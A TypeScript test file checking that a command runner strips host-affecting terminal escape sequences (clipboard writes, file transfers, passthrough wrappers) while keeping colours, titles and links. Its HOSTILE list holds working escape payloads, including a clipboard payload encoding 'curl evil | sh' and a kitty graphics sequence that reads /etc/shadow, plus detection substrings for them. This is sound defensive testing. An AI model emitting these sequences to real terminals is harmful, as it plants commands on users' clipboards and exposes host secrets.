import { execFile } from "node:child_process";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { scratch, type Scratch } from "../support/fs.js";
import { ROOT, VAK_BIN } from "../support/paths.js";
import { baseEnv } from "../support/vak.js";

/**
 * The command's output reaches the user's terminal (colours, titles and full-screen programs need its
 * control sequences), but a few sequences make the terminal act on the host past the screen: write the
 * clipboard (OSC 52, kitty's 5522: the user's next paste into a host shell runs it), save a file to the
 * host (iTerm2's OSC 1337 File=, kitty's 5113), or carry either to an outer terminal (tmux's and screen's
 * DCS passthrough). From a real pseudo-terminal this test owns, as a terminal emulator would.
 */
interface Driven {
  output: string;
  code: number;
  timedOut: boolean;
}
function drive(cwd: string, script: string, opts: { stdin?: "tty" | "null" } = {}): Promise<Driven> {
  const spec = {
    argv: [process.execPath, VAK_BIN, "exec", "--", "/usr/bin/python3", "-c", script], cwd, env: { ...baseEnv(), TERM: "xterm-256color" },
    rows: 24, cols: 80, stdin: opts.stdin ?? "tty", stdout: "tty", timeout: 30, steps: [],
  };
  return new Promise((resolve, reject) => {
    execFile("/usr/bin/python3", [join(ROOT, "test/support/pty-drive.py"), JSON.stringify(spec)], { maxBuffer: 64 << 20 }, (err, stdout) => {
      if (err) return reject(err);
      resolve(JSON.parse(stdout) as Driven);
    });
  });
}

const HOSTILE = [
  "\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07", // OSC 52, BEL
  "\x1b]52;p;Y3VybCBldmlsIHwgc2gK\x1b\\", // OSC 52, ST
  "\xc2\x9d52;c;Y3VybCBldmlsIHwgc2gK\xc2\x9c", // OSC 52 in C1 form (UTF-8)
  "\x1b]1337;File=name=ZXZpbC5zaA==;inline=0:ZXZpbAo=\x07", // iTerm2: save a file to Downloads
  "\x1b]5113;ac=send;id=x\x1b\\", // kitty file transfer
  "\x1b]5522;type=write\x1b\\", // kitty's clipboard
  "\x1bPtmux;\x1b\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\x1b\\", // tmux passthrough to the outer terminal
  "\x1bP\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\x1b\\", // screen passthrough
  "\x1b_Ga=T,t=f,f=100;L2V0Yy9zaGFkb3c=\x1b\\", // kitty graphics: the terminal reads /etc/shadow on the host
  "\x1b_Gi=7,t=s,f=24,s=1,v=1;L2Rldi9zaG0veA==\x1b\\", // ... or shared memory
];
const KEPT = ["\x1b_Ga=T,f=24,s=1,v=1;AAAA\x1b\\", "\x1b[31mred\x1b[0m", "\x1b]0;a title\x07", "\x1b]8;;http://example.invalid/\x1b\\link\x1b]8;;\x1b\\", "\u00a9 caf\u00e9"];

/** A Python program that writes the pieces, each byte its own write when slow (so the monitor reads them apart). */
const writer = (pieces: string[], slow: boolean) =>
  `import os, sys, time\nfor p in ${JSON.stringify(pieces.map((p) => Buffer.from(p, "latin1").toString("base64")))}:\n` +
  `  import base64\n  b = base64.b64decode(p)\n` +
  (slow ? `  for i in range(len(b)):\n    os.write(1, b[i:i+1]); time.sleep(0.003)\n` : `  os.write(1, b)\n`) +
  `  os.write(1, b"|")\n`;

/** A string's UTF-8 bytes, one character each (latin1), as the pty driver reports output. */
const utf8 = (x: string) => Buffer.from(x, "utf8").toString("latin1");

describe("what the command writes to the terminal cannot act on the host past it", () => {
  let s: Scratch;
  beforeAll(() => {
    s = scratch();
  });
  afterAll(() => s.cleanup());

  const check = (r: Driven) => {
    expect(r.timedOut).toBe(false);
    for (const bad of ["]52;", "\x9d52;", "]1337;", "]5113;", "]5522;", "tmux;", "Y3VybCBldmlsIHwgc2gK", "t=f", "t=s", "L2V0Yy9zaGFkb3c", "L2Rldi9zaG0veA"]) expect(r.output, JSON.stringify(bad)).not.toContain(bad);
    // The output is the terminal's bytes (as latin1): UTF-8 text is compared as its bytes.
    for (const good of KEPT) expect(r.output).toContain(utf8(good));
    // Every piece left its separator: nothing after a dropped sequence was swallowed.
    expect(r.output.split("|").length).toBeGreaterThanOrEqual(HOSTILE.length + KEPT.length + 1);
  };
  const pieces = [...HOSTILE.map((h) => h), ...KEPT.map(utf8)];

  it("clipboard writes, file transfers and passthrough wrappers are dropped; colours, titles, links and text pass", async () => {
    check(await drive(s.ws, writer(pieces, false)));
  });

  it("the same, one byte per write (a sequence split across the monitor's reads)", async () => {
    check(await drive(s.ws, writer(pieces, true)));
  }, 60_000);

  it("the same when the terminal is only written to (stdin not a terminal)", async () => {
    check(await drive(s.ws, writer(pieces, false), { stdin: "null" }));
  });
});
